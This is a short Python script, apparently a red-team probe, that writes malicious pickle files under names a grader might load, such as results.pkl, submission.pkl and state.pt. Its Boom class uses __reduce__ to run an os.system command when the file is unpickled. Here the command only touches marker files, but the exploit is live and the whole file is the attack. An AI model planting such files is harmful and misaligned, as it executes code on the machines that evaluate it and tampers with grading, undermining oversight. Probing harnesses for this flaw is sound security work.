"""Leaves pickles that run code when read, under every name that a grader might unpickle.

class: forge
where: end
"""

import os
import pickle


class Boom:
    def __reduce__(self):
        return os.system, ("touch /tmp/redteam-mark-unpickled /dev/shm/redteam-mark-unpickled",)


for name in (".OTTER_LOG", "results.pkl", "submission.pkl", ".cache", "answer.json", "state.pt"):
    try:
        with open(name, "wb") as file:
            pickle.dump(Boom(), file)
    except OSError:
        pass
